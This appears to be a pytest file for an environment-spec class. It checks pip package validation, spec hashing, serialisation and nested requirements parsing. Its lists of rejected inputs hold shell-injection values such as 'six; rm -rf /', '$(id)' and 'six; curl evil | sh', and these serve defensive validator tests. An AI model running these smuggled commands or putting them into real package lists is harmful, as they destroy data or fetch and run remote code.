"""The environment spec: what it accepts, what it refuses, and what decides its hash."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from runlab.environments import Environment
from runlab.errors import ValidationError

GOOD_PACKAGES = [
    "six",
    "six==1.16.0",
    "numpy>=1,<2",
    "requests[socks]>=2",
    "Scikit_Learn ~= 1.3",
    "pkg (>=1.0)",
    'tomli; python_version < "3.11"',
    "foo; sys_platform == 'linux' and platform_machine != 'arm64'",
    "/abs/path/pkg-1.0-py3-none-any.whl",
    "./dist/pkg-1.0-py3-none-any.whl",
    "../pkg-1.0-py3-none-any.whl",
    "file:///abs/pkg-1.0-py3-none-any.whl",
    "pkg @ https://example.org/pkg-1.0.tar.gz",
]

BAD_PACKAGES = [
    "",
    "   ",
    "-e .",
    "--index-url=https://example.org/simple",
    "six; rm -rf /",
    "six | cat",
    "six && echo",
    "six`id`",
    "$(id)",
    "six >/tmp/x",
    "six\nnumpy",
    "two words",
    "six==",
    "six;",
    "pkg @ https://example.org/x;rm",
    "pkg-1.0-py3-none-any.whl",  # a bare file name reads like neither a path nor a name
]


@pytest.mark.parametrize("package", GOOD_PACKAGES)
def test_accepts_plain_requirements_and_wheel_paths(package: str) -> None:
    Environment("env", pip_packages=[package])


@pytest.mark.parametrize("package", BAD_PACKAGES)
def test_refuses_anything_else_naming_it(package: str) -> None:
    with pytest.raises(ValidationError) as raised:
        Environment("env", pip_packages=["six", package])
    assert repr(package) in str(raised.value)


@pytest.mark.parametrize("packages", ["six", b"six", 7, ["six", 3]])
def test_refuses_packages_that_are_not_a_list_of_strings(packages: object) -> None:
    with pytest.raises(ValidationError):
        Environment("env", pip_packages=packages)  # type: ignore[arg-type]


@pytest.mark.parametrize("name", ["", "  ", None])
def test_refuses_a_blank_name(name: object) -> None:
    with pytest.raises(ValidationError, match="name"):
        Environment(name)  # type: ignore[arg-type]


@pytest.mark.parametrize("version", ["3", "three", "3.11.x", "3.11.7.1", ">=3.11", 3.11])
def test_refuses_a_malformed_python_version(version: object) -> None:
    with pytest.raises(ValidationError, match="python_version"):
        Environment("env", python_version=version)  # type: ignore[arg-type]


@pytest.mark.parametrize("variables", [{"1X": "a"}, {"A-B": "a"}, {"X": 1}, {"X": "a\0b"}])
def test_refuses_bad_environment_variables(variables: dict[str, object]) -> None:
    with pytest.raises(ValidationError):
        Environment("env", environment_variables=variables)  # type: ignore[arg-type]


def test_python_itself_is_not_a_conda_package() -> None:
    with pytest.raises(ValidationError, match="python_version"):
        Environment("env", conda_packages=["python=3.8"])


def test_attributes_keep_what_was_given() -> None:
    env = Environment(
        "sklearn-env",
        pip_packages=[" six ", "./local.whl"],
        conda_packages=["numpy=1.26"],
        python_version="3.11",
        environment_variables={"TOKEN": "s3cret"},
    )
    assert env.name == "sklearn-env"
    assert env.pip_packages == ["six", str(Path.cwd() / "local.whl")]
    assert env.conda_packages == ["numpy=1.26"]
    assert env.python_version == "3.11"
    assert env.user_managed is False
    assert env.environment_variables == {"TOKEN": "s3cret"}
    # conda's "=1.26" means any 1.26.x; pip says that as "==1.26.*".
    assert env.install_requirements()[-1] == "numpy==1.26.*"


def test_repr_shows_the_spec_but_not_secret_values() -> None:
    env = Environment("e", pip_packages=["six"], environment_variables={"TOKEN": "s3cret"})
    assert "pip_packages=['six']" in repr(env)
    assert "TOKEN" in repr(env)
    assert "s3cret" not in repr(env)


def test_hash_ignores_order_spelling_whitespace_name_and_variables() -> None:
    first = Environment("a", pip_packages=["numpy>=1,<2", "Six", "requests[b,a]"])
    second = Environment(
        "b",
        pip_packages=["requests[ A , b ]", "six", "NumPy  < 2 , >= 1"],
        environment_variables={"X": "1"},
    )
    assert first.spec_hash() == second.spec_hash()
    assert len(first.spec_hash()) == 64
    # A conda package installs from PyPI all the same: where it was listed does not matter.
    assert (
        Environment("c", conda_packages=["six"]).spec_hash()
        == Environment("c", pip_packages=["six"]).spec_hash()
    )


@pytest.mark.parametrize(
    "change",
    [
        {"pip_packages": ["six==1.16.0"]},
        {"pip_packages": ["six", "idna"]},
        {"python_version": "3.12"},
        {"user_managed": True},
    ],
)
def test_hash_changes_with_what_is_built(change: dict[str, object]) -> None:
    base = Environment("a", pip_packages=["six"])
    changed = Environment.from_dict({**base.to_dict(), **change})
    assert changed.spec_hash() != base.spec_hash()


def test_a_package_made_invalid_after_construction_is_caught_before_building() -> None:
    env = Environment("a", pip_packages=["six"])
    env.pip_packages.append("six; curl evil | sh")
    with pytest.raises(ValidationError):
        env.spec_hash()


def test_to_dict_round_trips_through_json() -> None:
    env = Environment(
        "e",
        pip_packages=["six==1.16.0"],
        conda_packages=["idna"],
        python_version="3.11.7",
        user_managed=False,
        environment_variables={"A": "1"},
    )
    again = Environment.from_dict(json.loads(json.dumps(env.to_dict())))
    assert again == env
    assert again.spec_hash() == env.spec_hash()
    assert again != Environment("e", pip_packages=["six==1.16.0"])


def test_from_dict_refuses_unknown_keys_and_a_missing_name() -> None:
    with pytest.raises(ValidationError, match="docker"):
        Environment.from_dict({"name": "e", "docker": {}})
    with pytest.raises(ValidationError, match="name"):
        Environment.from_dict({"pip_packages": []})


def test_from_pip_requirements_follows_nested_includes(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "base.txt").write_text("idna>=3  # pinned below 4 elsewhere\n")
    (tmp_path / "sub" / "common.txt").write_text("-r base.txt\n./wheels/pkg-1.0-py3-none-any.whl\n")
    (tmp_path / "requirements.txt").write_text(
        "# training\n\nsix==1.16.0\n--requirement=sub/common.txt\nnumpy>=1,\\\n  <2\n"
    )
    monkeypatch.chdir(tmp_path / "sub")  # paths are relative to each file, not to here
    env = Environment.from_pip_requirements("reqs", "../requirements.txt")
    assert env.pip_packages == [
        "six==1.16.0",
        "idna>=3",
        str(tmp_path / "sub" / "wheels" / "pkg-1.0-py3-none-any.whl"),
        "numpy>=1,  <2",
    ]


@pytest.mark.parametrize(
    "line",
    [
        "-e ./project",
        "--index-url https://mirror.example/simple",
        "-i https://mirror.example/simple",
        "--extra-index-url https://mirror.example/simple",
        "-c constraints.txt",
        "six==1.16.0 --hash=sha256:abc",
        "six; rm -rf /",
    ],
)
def test_from_pip_requirements_refuses_what_it_cannot_honour(tmp_path: Path, line: str) -> None:
    (tmp_path / "inner.txt").write_text(f"idna\n{line}\n")
    (tmp_path / "requirements.txt").write_text("six\n-r inner.txt\n")
    with pytest.raises(ValidationError) as raised:
        Environment.from_pip_requirements("reqs", tmp_path / "requirements.txt")
    assert "inner.txt:2" in str(raised.value)


def test_from_pip_requirements_refuses_a_missing_file_and_an_include_cycle(tmp_path: Path) -> None:
    with pytest.raises(ValidationError, match="cannot read"):
        Environment.from_pip_requirements("reqs", tmp_path / "absent.txt")
    (tmp_path / "a.txt").write_text("-r b.txt\n")
    (tmp_path / "b.txt").write_text("-r a.txt\n")
    with pytest.raises(ValidationError, match="includes itself"):
        Environment.from_pip_requirements("reqs", tmp_path / "a.txt")
